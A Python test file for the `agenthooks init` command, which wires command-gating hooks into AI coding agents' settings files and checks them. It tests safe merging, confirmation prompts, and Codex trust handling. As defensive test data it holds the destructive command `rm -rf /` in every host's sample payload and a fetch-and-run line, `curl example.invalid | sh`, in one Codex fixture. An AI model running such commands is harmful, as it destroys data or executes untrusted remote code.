"""`agenthooks init`: the wiring docs/hosts.md shows, added to what a settings file holds
without changing a byte of it, a starter gate where there is none, nothing written without
--yes or a yes on a terminal, and nothing to do on a second run; `--check` says whether a
workspace is wired right."""

from __future__ import annotations

import difflib
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from agenthooks.cli.commands.init import STARTER, WIRING, commands_in, every_wiring
from tests.conftest import REPO, Run
from tests.docs.pages import page

BIN = str(Path(sys.executable).parent)
PAYLOAD = {
    "claude": {"tool_name": "Bash", "tool_input": {"command": "rm -rf /"}},
    "gemini": {"tool_name": "run_shell_command", "tool_input": {"command": "rm -rf /"}},
    "antigravity": {"toolCall": {"name": "run_command", "args": {"CommandLine": "rm -rf /"}}},
    "codex": {"hook_event_name": "PreToolUse", "turn_id": "t1", "tool_name": "Bash",
              "tool_input": {"command": "rm -rf /"}},
    "cursor": {"hook_event_name": "preToolUse", "conversation_id": "c-1", "generation_id": "g-1",
               "cursor_version": "1.7.2", "workspace_roots": ["/project"],
               "tool_name": "Shell", "tool_input": {"command": "rm -rf /"}},
    "copilot": {"sessionId": "s-1", "timestamp": 1767225600000, "cwd": "/repo",
                "toolName": "bash", "toolArgs": {"command": "rm -rf /"}},
    "windsurf": {"agent_action_name": "pre_run_command", "trajectory_id": "t-1",
                 "tool_info": {"command_line": "rm -rf /", "cwd": "/project"}},
    # what agenthooks' OpenCode plugin sends (agenthooks/hosts/opencode/plugin.js)
    "opencode": {"hook_event_name": "PreToolUse", "session_id": "ses_1", "cwd": "/project",
                 "tool_name": "bash", "tool_input": {"command": "rm -rf /"},
                 "tool_use_id": "call_1"},
    # kiro.dev/docs/cli/hooks, "PreToolUse"
    "kiro": {"hook_event_name": "preToolUse", "cwd": "/project", "tool_name": "execute_bash",
             "tool_input": {"command": "rm -rf /"}},
    # measured with cline 3.0.65 (tests/e2e/test_cline.py's hook beside agenthooks')
    "cline": {"clineVersion": "", "timestamp": "2026-12-07T17:45:35.126Z", "taskId": "conv_1",
              "workspaceRoots": ["/project"], "userId": "unknown", "hookName": "tool_call",
              "tool_call": {"id": "call_1", "name": "run_commands",
                            "input": {"commands": ["rm -rf /"]}},
              "preToolUse": {"toolName": "run_commands",
                             "parameters": {"commands": '["rm -rf /"]'}}},
}
# How each host reads a deny: the exit status (the deny is in the JSON on 0).
DENY_STATUS = {"antigravity": 2, "cursor": 2, "copilot": 2, "windsurf": 2, "kiro": 2}
# Hosts that read a deny's reason on stderr, not in a JSON answer.
REASON_ON_STDERR = frozenset(("windsurf", "kiro"))


@pytest.fixture
def workspace(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """An empty git work tree as the current directory, agenthooks on PATH."""
    root = tmp_path / "project"
    (root / ".git").mkdir(parents=True)
    monkeypatch.chdir(root)
    monkeypatch.setenv("PATH", BIN + os.pathsep + os.environ.get("PATH", ""))
    return root


def documented_script(host: str, event: str) -> str:
    """An event's script as docs/hosts.md shows it: the `sh` block running `agenthooks run
    EVENT --host HOST`."""
    blocks = re.findall(r"```sh\n(.*?)```", page("hosts.md"), re.S)
    [block] = [b for b in blocks if f"agenthooks run {event} --host {host}" in b]
    return block


def documented(host: str) -> object:
    """The host's settings as docs/hosts.md shows them: the JSON block naming `--host HOST`."""
    blocks = re.findall(r"```json\n(.*?)```", page("hosts.md"), re.S)
    [block] = [b for b in blocks if f"--host {host}" in b and "agenthooks run" in b]
    return json.loads(block)


@pytest.mark.parametrize("host", sorted(WIRING))
def test_init_writes_the_documented_wiring_and_a_starter_gate(
        agenthooks: Run, workspace: Path, host: str, home: Path) -> None:
    if host == "codex":  # Codex reads a project's .codex/ only in a project it trusts
        trust_codex_project(home, workspace)
    done = agenthooks("init", "--host", host, "--yes")
    assert done.code == 0, done.err
    wiring = WIRING[host]
    settings = workspace / wiring.settings
    if wiring.whole is not None:  # a file of its own, written as it is (OpenCode's plugin)
        assert settings.read_text() == wiring.fresh()
    elif wiring.scripts is not None:  # a script per event (Cline's), in a folder
        for event in wiring.events:
            text = (settings / event.word).read_text()
            assert text == wiring.script(event) == documented_script(host, event.word)
    else:
        assert json.loads(settings.read_text()) == documented(host)
    assert (workspace / wiring.gates).read_text() == STARTER
    assert f"+++ b/{wiring.settings}" in done.out and f"wrote {wiring.gates}" in done.out
    assert agenthooks("validate").code == 0
    assert agenthooks("init", "--check", "--host", host).code == 0


@pytest.mark.program
@pytest.mark.parametrize("host", sorted(WIRING))
def test_the_wiring_blocks_where_the_host_runs_it(agenthooks: Run, workspace: Path,
                                                  host: str) -> None:
    """Each entry run as the host runs it: Claude Code and Gemini CLI in the project root,
    Antigravity in the folder of its hooks.json."""
    assert agenthooks("init", "--host", host, "--yes").code == 0
    settings = workspace / WIRING[host].settings
    tool_event = WIRING[host].events[0]
    if WIRING[host].whole is not None:  # the command the file runs (OpenCode's plugin)
        command = WIRING[host].command(tool_event)
        assert command in settings.read_text()
    elif WIRING[host].scripts is not None:  # the script itself, as Cline runs it (`sh FILE`)
        command = f"sh {settings / tool_event.word}"
    else:
        document = json.loads(settings.read_text())
        [command] = commands_in(document[WIRING[host].container][tool_event.word])
    where = settings.parent if host == "antigravity" else workspace
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    done = subprocess.run(["sh", "-c", command], input=json.dumps(PAYLOAD[host]), cwd=where,
                          capture_output=True, text=True, env=env, check=False, timeout=60)
    said = done.stderr if host in REASON_ON_STDERR else done.stdout
    assert "rm -rf needs a human" in said, done.stderr
    assert done.returncode == DENY_STATUS.get(host, 0)


def test_a_second_run_changes_nothing(agenthooks: Run, workspace: Path) -> None:
    assert agenthooks("init", "--host", "claude", "--yes").code == 0
    files = {p: p.read_bytes() for p in workspace.rglob("*") if p.is_file()}
    again = agenthooks("init", "--host", "claude")  # no --yes: nothing to ask
    assert again.code == 0
    assert "already wired for Claude Code; nothing to change" in again.out
    assert {p: p.read_bytes() for p in workspace.rglob("*") if p.is_file()} == files


EXISTING = {
    "claude": ('{\n  "permissions": {"allow": ["Bash(ls)"]},\n  "model": "opus"\n}'),
    "gemini": ('{\n\t"theme": "dark",\n\t"hooks": {\n\t\t"BeforeTool": [\n\t\t\t{"matcher": '
               '"write_file", "hooks": [{"type": "command", "command": "./lint.sh"}]}\n\t\t],\n'
               '\t\t"AfterAgent": []\n\t}\n}\n'),
    "antigravity": '{"lint": {"Stop": [{"command": "make lint"}]}}\n',
}


@pytest.mark.parametrize("host", sorted(EXISTING))
def test_what_is_there_stays_byte_for_byte(agenthooks: Run, workspace: Path, host: str) -> None:
    settings = workspace / WIRING[host].settings
    settings.parent.mkdir()
    before = EXISTING[host]
    settings.write_text(before)
    assert agenthooks("init", "--host", host, "--yes").code == 0
    after = settings.read_text()
    # Only insertions: every byte that was there is there, in order.
    operations = difflib.SequenceMatcher(None, before, after, autojunk=False).get_opcodes()
    assert {op for op, *_ in operations} <= {"equal", "insert"}
    merged = json.loads(after)
    for key, value in json.loads(before).items():
        if not isinstance(value, dict):
            assert merged[key] == value
    wired = documented(host)
    container = next(iter(wired))
    for event, groups in wired[container].items():  # type: ignore[attr-defined]
        assert groups[0] in merged[container][event]


def test_an_event_already_running_agenthooks_is_left_alone(agenthooks: Run,
                                                           workspace: Path) -> None:
    settings = workspace / ".claude" / "settings.json"
    settings.parent.mkdir()
    own = {"type": "command", "command": "/opt/bin/agenthooks run PreToolUse --host claude"}
    settings.write_text(json.dumps({"hooks": {"PreToolUse": [{"matcher": "Bash",
                                                               "hooks": [own]}]}}))
    assert agenthooks("init", "--host", "claude", "--yes").code == 0
    hooks = json.loads(settings.read_text())["hooks"]
    assert hooks["PreToolUse"] == [{"matcher": "Bash", "hooks": [own]}]
    assert set(hooks) == {"PreToolUse", "PostToolUse", "UserPromptSubmit", "Stop",
                          "SessionStart"}


def test_nothing_is_written_without_yes_off_a_terminal(agenthooks: Run,
                                                       workspace: Path) -> None:
    done = agenthooks("init", "--host", "gemini")
    assert done.code == 1
    assert "+++ b/.gemini/settings.json" in done.out
    assert "nothing written: run again with --yes" in done.err
    assert list(workspace.iterdir()) == [workspace / ".git"]


@pytest.mark.program
def test_a_terminal_is_asked(workspace: Path) -> None:
    import pty

    env = {**os.environ, "PYTHONPATH": str(REPO)}
    for answer, code, written in ((b"n\n", 1, False), (b"y\n", 0, True)):
        main, secondary = pty.openpty()
        process = subprocess.Popen(
            [sys.executable, "-m", "agenthooks", "init", "--host", "claude"], stdin=secondary,
            stdout=secondary, stderr=secondary, cwd=workspace, env=env)
        os.close(secondary)
        output = b""
        while b"[y/N]" not in output:
            output += os.read(main, 4096)
        os.write(main, answer)
        assert process.wait(timeout=30) == code
        os.close(main)
        assert (workspace / ".claude" / "settings.json").exists() == written


def test_an_existing_gate_is_kept(agenthooks: Run, workspace: Path) -> None:
    (workspace / ".harness" / "hooks").mkdir(parents=True)
    (workspace / ".harness" / "hooks" / "guard.md").write_text(
        "---\nevent: tool.pre\nscript: |\n  def handle(event, payload):\n      return allow()\n"
        "---\n")
    assert agenthooks("init", "--host", "claude", "--yes").code == 0
    assert not (workspace / ".agents").exists()


@pytest.mark.parametrize("text", ["{not json", "[1, 2]", '{"hooks": []}'])
def test_a_settings_file_init_cannot_add_to(agenthooks: Run, workspace: Path, text: str) -> None:
    settings = workspace / ".claude" / "settings.json"
    settings.parent.mkdir()
    settings.write_text(text)
    done = agenthooks("init", "--host", "claude", "--yes")
    assert done.code == 1
    assert done.err.startswith("agenthooks: error: .claude/settings.json")
    assert settings.read_text() == text
    assert not (workspace / ".agents").exists()


def test_check(agenthooks: Run, workspace: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    nothing = agenthooks("init", "--check")
    assert (nothing.code, nothing.out) == (
        1, "agenthooks: . is wired for no host: agenthooks init --host "
           f"{'|'.join(every_wiring())}\n")
    assert agenthooks("init", "--host", "claude", "--yes").code == 0
    assert agenthooks("init", "--check").out == (
        "ok: Claude Code runs agenthooks (.claude/settings.json, gates in .agents/hooks.json)\n")
    # One event less, a broken gate, no agenthooks on PATH: each is said, exit 1.
    settings = workspace / ".claude" / "settings.json"
    document = json.loads(settings.read_text())
    del document["hooks"]["Stop"]
    settings.write_text(json.dumps(document))
    (workspace / ".agents" / "hooks.json").write_text("{")
    monkeypatch.setenv("PATH", "/nonexistent")
    done = agenthooks("init", "--check", "--host", "claude")
    assert done.code == 1
    assert done.out.splitlines() == [
        "not wired right for Claude Code:",
        "  - .claude/settings.json does not run agenthooks on Stop",
        "  - agenthooks is not on PATH, where the host looks for it: see docs/install.md",
        "  - .agents/hooks.json has errors, so none of its hooks run: agenthooks validate "
        ".agents/hooks.json",
    ]


def test_usage(agenthooks: Run, workspace: Path) -> None:
    assert agenthooks("init").code == 2  # no --host and no default_host
    assert agenthooks("init", "--host", "claude", "--host", "gemini").code == 2
    assert agenthooks("init", "--host", "nobody").code == 2


GEMINI_WITH_COMMENTS = """\
// Gemini CLI reads this file as JSON with comments.
{
  "theme": "dark", // the user's theme
  /* hooks of their own */
  "hooks": {
    "BeforeTool": [
      {"matcher": "write_file", "hooks": [{"type": "command", "command": "./lint.sh"}]} // lint
    ]
  }
}
"""


def test_gemini_settings_keep_their_comments(agenthooks: Run, workspace: Path) -> None:
    """Gemini CLI allows comments in settings.json (validate accepts them): init adds its
    entries around them, every byte kept, and --check reads the file as Gemini CLI does."""
    from agenthooks.sources.dialects.load import strip_comments

    settings = workspace / ".gemini" / "settings.json"
    settings.parent.mkdir()
    settings.write_text(GEMINI_WITH_COMMENTS)
    done = agenthooks("init", "--host", "gemini", "--yes")
    assert done.code == 0, done.err
    after = settings.read_text()
    operations = difflib.SequenceMatcher(None, GEMINI_WITH_COMMENTS, after,
                                         autojunk=False).get_opcodes()
    assert {op for op, *_ in operations} <= {"equal", "insert"}
    # Each comment stays on the line of what it is about.
    assert '"theme": "dark", // the user\'s theme\n' in after
    assert '"./lint.sh"}]}, // lint\n' in after
    merged = json.loads(strip_comments(after))
    assert merged["theme"] == "dark"
    assert merged["hooks"]["BeforeTool"][0]["hooks"][0]["command"] == "./lint.sh"
    wired = documented("gemini")
    for event, groups in wired["hooks"].items():  # type: ignore[index]
        assert groups[0] in merged["hooks"][event]
    assert agenthooks("validate").code == 0
    assert agenthooks("init", "--check", "--host", "gemini").code == 0
    assert "nothing to change" in agenthooks("init", "--host", "gemini").out


@pytest.mark.parametrize("text", [
    "{\n  // nothing yet\n}\n",
    '{"theme": "dark" /* one line */}',
    '{\n  "theme": "dark" /* runs\n  on */\n}\n',
])
def test_gemini_comments_in_odd_places(agenthooks: Run, workspace: Path, text: str) -> None:
    from agenthooks.sources.dialects.load import strip_comments

    settings = workspace / ".gemini" / "settings.json"
    settings.parent.mkdir()
    settings.write_text(text)
    assert agenthooks("init", "--host", "gemini", "--yes").code == 0
    after = settings.read_text()
    operations = difflib.SequenceMatcher(None, text, after, autojunk=False).get_opcodes()
    assert {op for op, *_ in operations} <= {"equal", "insert"}
    assert "BeforeTool" in json.loads(strip_comments(after))["hooks"]


def test_claude_settings_with_comments_are_refused(agenthooks: Run, workspace: Path) -> None:
    """Claude Code reads plain JSON: a comment there is an error to fix, not to keep."""
    settings = workspace / ".claude" / "settings.json"
    settings.parent.mkdir()
    settings.write_text('{"model": "opus" // mine\n}\n')
    done = agenthooks("init", "--host", "claude", "--yes")
    assert done.code == 1 and "is not valid JSON" in done.err


def codex_config(home: Path) -> Path:
    return home / ".codex" / "config.toml"


def trust_codex_project(home: Path, workspace: Path, first: str = "") -> None:
    """config.toml trusting the project, as Codex's own prompt records it."""
    codex_config(home).parent.mkdir(exist_ok=True)
    codex_config(home).write_text(f'{first}[projects."{workspace.resolve()}"]\n'
                                  'trust_level = "trusted"\n')
    codex_config(home).chmod(0o600)


def test_codex_init_trusts_its_entries_and_check_needs_them_trusted(
        agenthooks: Run, workspace: Path, home: Path) -> None:
    """Codex skips a hook until the user's config.toml records its hash: init shows and
    writes those entries with the wiring, and --check fails until they are there."""
    from agenthooks.sources.dialects import codex_trust as codex

    trust_codex_project(home, workspace)
    shown = agenthooks("init", "--host", "codex")
    assert shown.code == 1
    assert "# trust these entries in Codex's config.toml" in shown.out
    assert f"+++ b/{codex_config(home)}" in shown.out
    done = agenthooks("init", "--host", "codex", "--yes")
    assert done.code == 0, done.err
    config = codex_config(home)
    assert config.stat().st_mode & 0o777 == 0o600  # kept
    hooks = codex.all_hooks(str(workspace), str(home / ".codex"))
    assert len(hooks) == len(WIRING["codex"].events)
    recorded = codex.states(codex.read_toml(str(config)))
    assert all(codex.status_of(h, recorded) == codex.TRUSTED for h in hooks)
    assert agenthooks("init", "--check", "--host", "codex").code == 0
    assert "nothing to change" in agenthooks("init", "--host", "codex").out
    # Trust forgotten (or never given): --check says what Codex skips, and how to trust it.
    trust_codex_project(home, workspace, first='model = "o3"\n')
    old = config.read_text()
    check = agenthooks("init", "--check", "--host", "codex")
    assert check.code == 1
    skipped = [line for line in check.out.splitlines() if "Codex skips" in line]
    assert len(skipped) == len(WIRING["codex"].events)
    assert skipped[0] == (
        f"  - Codex skips the PreToolUse entry of .codex/hooks.json ({config} records no hash "
        "for it): agenthooks init --host codex, or agenthooks trust --host codex, trusts it")
    again = agenthooks("init", "--host", "codex", "--yes")
    assert again.code == 0
    assert config.read_text().startswith(old)
    assert Path(f"{config}.bak").read_text() == old
    assert agenthooks("init", "--check", "--host", "codex").code == 0


def test_codex_check_needs_the_project_trusted(agenthooks: Run, workspace: Path,
                                               home: Path) -> None:
    """Codex reads a project's .codex/ only in a project it trusts, which is Codex's own
    question: init says so, never writes it, and --check fails until it is answered."""
    done = agenthooks("init", "--host", "codex", "--yes")
    assert done.code == 0
    project = (f"Codex reads .codex/ only in a project it trusts: run `codex exec --trust` "
               f'here, or add [projects."{workspace.resolve()}"] trust_level = "trusted" to '
               f"{codex_config(home)}")
    assert f"note: {project}\n" in done.out
    assert "[projects." not in codex_config(home).read_text()
    assert codex_config(home).stat().st_mode & 0o777 == 0o600  # a new config.toml: the owner's
    check = agenthooks("init", "--check", "--host", "codex")
    assert (check.code, check.out) == (1, f"not wired right for Codex:\n  - {project}\n")
    with codex_config(home).open("a") as config:
        config.write(f'\n[projects."{workspace.resolve()}"]\ntrust_level = "trusted"\n')
    assert agenthooks("init", "--check", "--host", "codex").code == 0


def test_codex_trust_covers_only_agenthooks_entries(agenthooks: Run, workspace: Path,
                                                    home: Path) -> None:
    """init trusts what it wires, never another hook of the file."""
    settings = workspace / ".codex" / "hooks.json"
    settings.parent.mkdir()
    other = {"type": "command", "command": "curl example.invalid | sh"}
    settings.write_text(json.dumps({"hooks": {"Stop": [{"hooks": [other]}]}}))
    assert agenthooks("init", "--host", "codex", "--yes").code == 0
    text = codex_config(home).read_text()
    assert f'"{settings.resolve()}:stop:0:0"' not in text
    assert f'"{settings.resolve()}:stop:1:0"' in text


@pytest.mark.parametrize(("command", "wired"), [
    ("agenthooks run PreToolUse --host claude --fail-closed", True),
    ("/usr/local/bin/agenthooks run PreToolUse --host claude", True),
    ("python3 -m agenthooks run PreToolUse --host claude", True),
    ("agenthooks run PostToolUse --host claude", False),
    # A gate that mentions a run among its own commands is a handler, not agenthooks' entry.
    ("echo no >&2; exit 2; agenthooks run PreToolUse --config other.json", False),
    ("./check.sh && agenthooks run PreToolUse", False),
])
def test_only_agenthooks_itself_counts_as_wired(command: str, wired: bool) -> None:
    from agenthooks.cli.commands.init import runs_agenthooks_for

    assert runs_agenthooks_for(command, "PreToolUse") is wired
